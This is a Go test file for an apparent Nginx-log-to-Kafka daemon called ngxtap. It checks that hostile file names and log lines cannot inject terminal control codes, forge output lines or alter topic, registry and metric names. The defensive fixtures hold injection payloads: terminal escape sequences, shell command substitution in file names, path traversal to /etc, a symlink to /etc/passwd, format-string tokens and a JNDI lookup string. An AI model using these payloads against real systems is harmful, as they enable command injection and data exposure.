// Shows that what strangers write, lines of a log or names in its folder, steers neither terminals nor names: nothing printed holds a
// control character but newlines, no name makes a line of its own, and topics, subjects, files, transactional ids and metrics
// are the same as after harmless lines.

package main

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"

	"ngxtap/pkg/embedded"
)

var forged = regexp.MustCompile(`^(ok       |ngxtap: |\{"msg":")?forged`)

// wantPlain fails if s holds a control character other than a newline, or a line that a name in it made. What is not an event, but
// for people to read, may hold nothing but what can be printed.
func wantPlain(t *testing.T, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not UTF-8: %+q", what, s)
	}
	for line := range strings.Lines(s) {
		event := strings.HasPrefix(line, `{"event_time"`)
		odd := func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || !event && !unicode.IsPrint(r)) }
		if strings.ContainsFunc(line, odd) || forged.MatchString(line) {
			t.Errorf("%s holds the line %+q", what, line)
		}
	}
}

func TestEscaper(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain text, ä, 漢\nnext", "plain text, ä, 漢\nnext"}, {"\x1b[31m\x07\x7f", `\u001b[31m\u0007\u007f`}, {"\u009b1m", `\u009b1m`}, {"a\x9bb\xff", `a\x9bb\xff`},
		{"\u202egol", `\u202egol`}, {"tab\tcr\r", `tab\tcr\u000d`}, {"\U000e0001", `\udb40\udc01`}, {"\ufffd", "\ufffd"},
	} {
		var b strings.Builder
		if n, err := (escaper{&b}).Write([]byte(tt.in)); n != len(tt.in) || err != nil || b.String() != tt.want {
			t.Errorf("%+q: wrote %+q, %d, %v; want %+q", tt.in, b.String(), n, err, tt.want)
		}
	}
	if got := oneLine("a\nb"); got != `a\nb` {
		t.Errorf("one line: %q", got)
	}
}

// hostileNames are what a glob may find in a folder that others can write.
func hostileNames() []string {
	names := []string{"\x1b]0;forged\x07\x1b[2J.log", "a\nok       forged.log", "a\nngxtap: forged.log", "a\n{\"msg\":\"forged\"}.log", "\u009b31mred.log", "\x80\xff\xfe.log",
		"\u202egol.log", "a\r\rok forged.log", "tab\there.log", "..log", "%s%n%!d.log", "`id`$(id);id.log", strings.Repeat("\x1b", 250) + ".log", " .log", "-rf.log", "*?[.log"}
	rnd := rand.New(rand.NewPCG(1, 2))
	for range 60 {
		b := make([]byte, 1+rnd.IntN(40))
		for i := range b {
			for b[i] == 0 || b[i] == '/' {
				b[i] = byte(rnd.UintN(256))
			}
		}
		names = append(names, string(b)+".log")
	}
	return names
}

func TestHostileFileNames(t *testing.T) {
	f := farSide(t)
	dir := t.TempDir()
	file := siteIn(t, dir, f.daemon)
	logs := filepath.Join(dir, "logs")
	if err := os.Mkdir(logs, 0o755); err != nil {
		t.Fatal(err)
	}
	site := "site: shop\naccess_log: {paths: ['../logs/*.log', '../logs/fifo.log'], log_format: '$status'}\n"
	if err := os.WriteFile(filepath.Join(dir, "sites.d/shop.yaml"), []byte(site), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(logs, "fifo.log"), 0o600); err != nil {
		t.Fatal(err)
	}
	for i, name := range hostileNames() {
		path := filepath.Join(logs, name)
		var err error
		switch i % 6 {
		case 0, 1:
			err = os.WriteFile(path, fmt.Appendf(nil, "%d\nnonsense\n", 200+i), 0o600)
		case 2:
			err = os.Symlink("/etc/passwd\x1b\n", path)
		case 3:
			err = syscall.Mkfifo(path, 0o600)
		case 4:
			err = os.WriteFile(path, []byte("\x1b]0;forged\x07 none of it fits\nforged\n"), 0o600)
		case 5:
			err = os.Mkdir(path, 0o755)
		}
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
	}
	code, out := runIn(t, "check", "--user", "", "-c", file)
	if code != exitConfig || !strings.Contains(out, "named pipe") || !strings.Contains(out, "symbolic link") || !strings.Contains(out, "none of the first 2 lines fits") {
		t.Errorf("check: exit code %d\n%s", code, out)
	}
	wantPlain(t, "check", out)
	code, out = runIn(t, "run", "--once", "-c", file)
	if code != exitFailed || !strings.Contains(out, "skipped: ") || !strings.Contains(out, "reading a log file") {
		t.Errorf("run --once: exit code %d\n%s", code, out)
	}
	wantPlain(t, "run --once", out)
	metrics, health, out := f.serve(t, file)
	wantPlain(t, "run", out)
	wantPlain(t, "/healthz", health)
	wantPlain(t, "/metrics", metrics)
	if !strings.Contains(metrics, `ngxtap_skipped_files{reason="symlink",site="shop"} 13`) {
		t.Errorf("links are not counted:\n%s", metrics)
	}
	args := []string{"parse", "--nginx-conf", filepath.Join(dir, "nginx.conf")}
	if err := os.WriteFile(args[2], []byte("events {}\nhttp { log_format combined2 '$status'; }\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for i, name := range hostileNames() {
		if i%6 < 2 || i%6 == 4 {
			_, out := runIn(t, append(args, "--format", "combined2", "--", filepath.Join(logs, name))...)
			wantPlain(t, "parse", out)
			_, out = runIn(t, append(args, "--format", "combined2", "--", filepath.Join(logs, name)+"x")...)
			wantPlain(t, "parse of a missing file", out)
		}
	}
}

// hostileLines are what clients make Nginx write, and what somebody who can write the log makes of it. %s is a marker.
var hostileLines = []string{
	`200 "../../../../etc/%s" "topic" "a"`, `200 "nginx.%s.access" "ngxtap.state" "__transaction_state"`, `200 "/%s" "\x0A{\x22site\x22:\x22evil\x22}" "b"`,
	`200 "%s/evil" "evil.shop" "c"`, `200 "%s" "{__name__=\x22x\x22}" "site=\x22evil\x22"`, "200 \"%s\x1b]0;title\x07\" \"\x9b31m\" \"d\"", "\x1b[2J%s", `999999999999 "%s" "" ""`,
	`200 "%s` + strings.Repeat("A", 8<<10) + `" "h" "v"`, `%s`, "200 \"%s\" \"\u009b\" \"\xff\xfe\"", `200 "%s" "${jndi:ldap://evil}" "%%s%%n"`,
}

func TestHostileLines(t *testing.T) {
	leaves := func(lines string) []string {
		f := farSide(t)
		dir := t.TempDir()
		file := siteIn(t, dir, f.daemon)
		site := "site: shop\naccess_log: {paths: [../access.log], log_format: '$status \"$request_uri\" \"$http_x_topic\" \"$http_user_agent\"'}\npartition_by: status\n"
		for name, text := range map[string]string{"sites.d/shop.yaml": site, "access.log": lines} {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		_, out := runIn(t, "run", "--once", "-c", file)
		metrics, health, more := f.serve(t, file)
		for what, s := range map[string]string{"run --once": out, "run": more, "/healthz": health, "/metrics": metrics} {
			wantPlain(t, what, s)
			if strings.Contains(s, "CANARY") || strings.Contains(s, "evil") {
				t.Errorf("%s holds log data:\n%s", what, s)
			}
		}
		for _, topic := range []string{"nginx.shop.access", "nginx.shop.access.quarantine"} {
			_, out := runIn(t, "cat", topic, "-c", file)
			wantPlain(t, "cat", out)
			if !strings.Contains(out, "{") {
				t.Errorf("cat %s: %s", topic, out)
			}
		}
		return f.names(t, dir, metrics)
	}
	var hostile strings.Builder
	for _, l := range hostileLines {
		fmt.Fprintf(&hostile, l+"\n", "CANARY")
	}
	harmless := leaves("200 \"/\" \"a\" \"b\"\nno line of this format\n")
	if got := leaves(hostile.String()); !slices.Equal(got, harmless) {
		t.Errorf("hostile lines leave\n%s\nharmless ones\n%s", strings.Join(got, "\n"), strings.Join(harmless, "\n"))
	}
	if len(harmless) < 40 || !slices.Contains(harmless, "subject nginx.shop.access-value") {
		t.Errorf("only these names were looked at: %q", harmless)
	}
}

// far is a broker and a registry of a test.
type far struct {
	*embedded.Servers
	daemon string // configuration
}

func farSide(t *testing.T) *far {
	t.Helper()
	s, err := embedded.Start(t.Context(), embedded.Config{Dir: t.TempDir(), Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return &far{s, fmt.Sprintf("instance: web-01\nstate_dir: state\nkafka: {brokers: ['%s']}\nregistry: {url: '%s'}\nadmin: {listen: '127.0.0.1:0'}\n", s.Brokers()[0], s.RegistryURL())}
}

// serve runs the daemon until it is at work, and returns its metrics, its health and all it printed.
func (f *far) serve(t *testing.T, file string) (metrics, health, printed string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	var out lockedBuffer
	done := make(chan int, 1)
	go func() { done <- run(ctx, []string{"run", "-c", file}, stdio{strings.NewReader(""), &out, &out}) }()
	port := regexp.MustCompile(`http://127\.0\.0\.1:\d+/`)
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case code := <-done:
			t.Fatalf("run ended with %d:\n%s", code, out.String())
		case <-tick.C:
		}
		if url := port.FindString(out.String()); url != "" {
			if health = get(t, url+"healthz"); strings.Contains(health, ": running since") {
				metrics = get(t, url+"metrics")
				cancel()
				<-done
				return metrics, health, out.String()
			}
		}
	}
}

func get(t *testing.T, url string) string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

var series = regexp.MustCompile(`(?m)^ngxtap_\w+(\{.*\})? `)

// names lists everything that ngxtap gave a name to: topics, transactional ids, subjects, files and series of metrics.
func (f *far) names(t *testing.T, dir, metrics string) []string {
	t.Helper()
	names := series.FindAllString(metrics, -1)
	c, err := kgo.NewClient(kgo.SeedBrokers(f.Brokers()...))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	meta, err := kmsg.NewPtrMetadataRequest().RequestWith(t.Context(), c)
	if err != nil {
		t.Fatal(err)
	}
	for _, topic := range meta.Topics {
		names = append(names, "topic "+*topic.Topic)
	}
	txns, err := kmsg.NewPtrListTransactionsRequest().RequestWith(t.Context(), c)
	if err != nil {
		t.Fatal(err)
	}
	for _, txn := range txns.TransactionStates {
		names = append(names, "transactional id "+txn.TransactionalID)
	}
	for _, s := range regexp.MustCompile(`"([^"]*)"`).FindAllStringSubmatch(get(t, f.RegistryURL()+"/subjects"), -1) {
		names = append(names, "subject "+s[1])
	}
	err = filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
		names = append(names, "file "+strings.TrimPrefix(path, dir))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(names)
	return names
}
